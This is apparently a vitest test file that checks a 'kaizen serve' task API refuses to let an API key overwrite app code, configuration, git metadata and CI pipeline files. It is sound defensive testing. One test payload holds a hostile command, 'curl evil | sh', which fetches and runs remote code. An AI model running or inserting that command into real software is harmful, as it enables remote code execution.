/**
 * What an API key may write on the default branch of `kaizen serve`'s repository, through real
 * HTTP: a task's own file and a new prompt file, nothing else. The requests of issue #20 (the
 * key a production app holds overwrote src/app.py, another task's file, .kaizen/config.yml and
 * .gitmodules with `POST /api/v1/tasks`) are each refused, and main is left as it was.
 */
import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestApi, type TestApi } from "./helpers/local-api.js";

const run = promisify(execFile);

const PEOPLES_FILES = {
  "src/app.py": "print('the app')\n",
  ".kaizen/config.yml": "workflow: kaizen.yml\n",
  ".gitmodules": '[submodule "lib"]\n\tpath = lib\n\turl = https://example.com/lib.git\n',
  "prompts/r\u00e9sum\u00e9.md": "Summarize {{text}}\n",
};

describe("what an API key may write through POST /api/v1/tasks (kaizen serve)", () => {
  let api: TestApi;
  beforeAll(async () => {
    api = await startTestApi({}, PEOPLES_FILES);
  });
  afterAll(async () => api.close());

  const git = async (...args: string[]) => (await run("git", args, { cwd: api.dir })).stdout;
  const mainHead = async () => (await git("rev-parse", "main")).trim();
  const onMain = (file: string) => git("show", `main:${file}`);

  it("answers 409 naming an existing file it was asked to overwrite (src/app.py), and main does not move", async () => {
    const before = await mainHead();
    const created = await api.call("POST", "/api/v1/tasks", {
      name: "x1",
      prompt_path: "src/app.py",
      prompt: "import os; os.system('curl evil | sh')\n",
    });
    expect(created.status).toBe(409);
    expect(created.body.detail).toMatch(/^src\/app\.py already exists/);
    expect(await mainHead()).toBe(before);
    expect(await onMain("src/app.py")).toBe(PEOPLES_FILES["src/app.py"]);
    expect((await api.call("GET", "/api/v1/tasks/x1")).status).toBe(404);
  });

  it("refuses a file where the path needs a directory, and a path that is a directory", async () => {
    const before = await mainHead();
    for (const [promptPath, named] of [
      ["src/app.py/prompt.md", "src/app.py"],
      ["src", "src"],
    ] as const) {
      const created = await api.call("POST", "/api/v1/tasks", {
        name: "x2",
        prompt_path: promptPath,
        prompt: "p\n",
      });
      expect(created.status, promptPath).toBe(409);
      expect(created.body.detail, promptPath).toContain(`${named} already exists`);
    }
    expect(await mainHead()).toBe(before);
  });

  it.each([
    [".kaizen/tasks/classify.yml", /Kaizen's own configuration/],
    [".kaizen/config.yml", /Kaizen's own configuration/],
    [".KAIZEN/Config.YML", /Kaizen's own configuration/],
    [".gitmodules", /\.git/],
    [".gitattributes", /\.git/],
    [".gitignore", /\.git/],
    ["lib/.gitmodules", /\.git/],
    [".github/workflows/evil.yml", /\.github/],
    [".gitlab-ci.yml", /\.gitlab-ci\.yml/],
    [".circleci/config.yml", /\.circleci/],
    [".husky/pre-commit", /\.husky/],
    ["Jenkinsfile", /jenkinsfile/],
    ["azure-pipelines.yml", /azure-pipelines\.yml/],
  ])("refuses prompt_path %s with a 422 naming the field, and writes nothing", async (promptPath, why) => {
    const before = await mainHead();
    const created = await api.call("POST", "/api/v1/tasks", {
      name: "x3",
      prompt_path: promptPath,
      prompt: "threshold: 1\n",
    });
    expect(created.status).toBe(422);
    expect(created.body.detail[0].loc).toEqual(["body", "prompt_path"]);
    expect(created.body.detail[0].msg).toMatch(why);
    expect(await mainHead()).toBe(before);
  });

  it("leaves another task's file alone: its name is taken in any letter case", async () => {
    const before = await onMain(".kaizen/tasks/classify.yml");
    for (const name of ["classify", "Classify"]) {
      const created = await api.call("POST", "/api/v1/tasks", { name, feedback_threshold: 1 });
      expect(created.status, name).toBe(409);
      expect(created.body.detail, name).toContain(".kaizen/tasks/classify.yml");
    }
    expect(await onMain(".kaizen/tasks/classify.yml")).toBe(before);
  });

  it("answers 409 for a prompt file that differs from an existing one only in letter case, naming it", async () => {
    const before = await mainHead();
    const asked = [
      { name: "twin1", prompt_path: "prompts/Classify.txt", prompt: "Classify {{text}}\n" },
      // Without a prompt, the file git does not find in this spelling would be made as a baseline.
      { name: "twin2", prompt_path: "prompts/CLASSIFY.txt" },
      { name: "twin3", prompt_path: "Prompts/new.md", prompt: "Answer {{question}}\n" },
      // NFD spelling of a name that exists in NFC: one file on macOS.
      { name: "twin4", prompt_path: "prompts/re\u0301sume\u0301.md", prompt: "Sum {{text}}\n" },
    ];
    const named = ["prompts/classify.txt", "prompts/classify.txt", "prompts", "prompts/r\u00e9sum\u00e9.md"];
    for (const [i, body] of asked.entries()) {
      const created = await api.call("POST", "/api/v1/tasks", body);
      expect(created.status, body.name).toBe(409);
      expect(created.body.detail, body.name).toBe(
        `${body.prompt_path} differs only in letter case from ${named[i]}, which exists; a checkout on macOS or Windows cannot hold both, so Kaizen never creates it`,
      );
      expect((await api.call("GET", `/api/v1/tasks/${body.name}`)).status).toBe(404);
    }
    expect(await mainHead()).toBe(before);
  });

  it("writes exactly what a task owns: its file and a new prompt file", async () => {
    const before = await mainHead();
    const created = await api.call("POST", "/api/v1/tasks", {
      name: "fresh",
      prompt_path: "prompts/fresh.md",
      prompt: "Answer {{question}}\n",
    });
    expect(created.status).toBe(201);
    const changed = await git("diff", "--name-status", before, "main");
    expect(changed.trim().split("\n").sort()).toEqual(["A\t.kaizen/tasks/fresh.yml", "A\tprompts/fresh.md"]);
  });

  it("uses an existing prompt file as it is when no prompt is sent (no write to it)", async () => {
    const before = await mainHead();
    const created = await api.call("POST", "/api/v1/tasks", {
      name: "reuse",
      prompt_path: "prompts/classify.txt",
    });
    expect(created.status).toBe(201);
    const changed = await git("diff", "--name-status", before, "main");
    expect(changed.trim()).toBe("A\t.kaizen/tasks/reuse.yml");
  });
});
